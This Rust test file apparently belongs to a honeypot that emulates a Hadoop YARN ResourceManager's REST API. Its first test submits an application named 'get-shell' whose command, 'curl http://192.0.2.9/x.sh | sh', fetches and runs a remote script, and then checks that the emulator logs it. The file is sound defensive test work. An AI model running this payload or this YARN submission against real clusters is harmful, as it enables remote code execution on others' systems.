//! YARN.

use serde_json::{Value, json};

use super::*;

#[test]
fn yarn_takes_an_application_and_shows_it_afterwards() {
    let new = "POST /ws/v1/cluster/apps/new-application HTTP/1.1\r\nHost: rm:8088\r\nContent-Length: 0\r\n\r\n";
    let first = ask("hadoop", "", new.repeat(2));
    let ids: Vec<Value> = answers(&first)
        .iter()
        .map(|answer| serde_json::from_str::<Value>(&answer.2).unwrap()["application-id"].clone())
        .collect();
    assert!(ids[0].as_str().unwrap() < ids[1].as_str().unwrap(), "{ids:?}");
    let id = ids[0].as_str().unwrap();
    let submit = post(
        "/ws/v1/cluster/apps",
        "application/json",
        &json!({"application-id": id, "application-name": "get-shell",
        "am-container-spec": {"commands": {"command": "curl http://192.0.2.9/x.sh | sh"}}, "application-type": "YARN"})
        .to_string(),
    );
    let show = format!("GET /ws/v1/cluster/apps/{id} HTTP/1.1\r\nHost: x\r\n\r\n");
    let steps = [
        Step::Recv(submit.as_bytes()),
        Step::Recv(show.as_bytes()),
        Step::Wait(10_000),
        Step::Recv(show.as_bytes()),
        Step::Wait(49_000),
        Step::Recv(show.as_bytes()),
    ];
    let outcome = Transcript::tcp("hadoop", "").run(&steps);
    let all = answers(&outcome);
    assert_eq!(all[0].0, 202);
    assert!(all[0].1.contains(&format!("Location: http://x/ws/v1/cluster/apps/{id}")));
    let states: Vec<String> = all[1..]
        .iter()
        .map(|answer| serde_json::from_str::<Value>(&answer.2).unwrap()["app"]["state"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(states, ["ACCEPTED", "RUNNING", "FINISHED"]);
    assert_eq!(outcome.the_event("command").fields["command"], "curl http://192.0.2.9/x.sh | sh");
}

#[test]
fn yarn_tells_what_it_is_and_what_it_does_not_have() {
    let (status, head, body) = get("hadoop", "/ws/v1/cluster/info");
    assert!(status == 200 && head.contains("Server: Jetty(6.1.26)"));
    assert_eq!(serde_json::from_str::<Value>(&body).unwrap()["clusterInfo"]["state"], "STARTED");
    assert!(get("hadoop", "/cluster/cluster").2.contains("ResourceManager state:"));
    assert_eq!(get("hadoop", "/nope").0, 404);
    assert!(get("hadoop", "/ws/v1/cluster/apps/application_1_0001").2.contains("NotFoundException"));
}
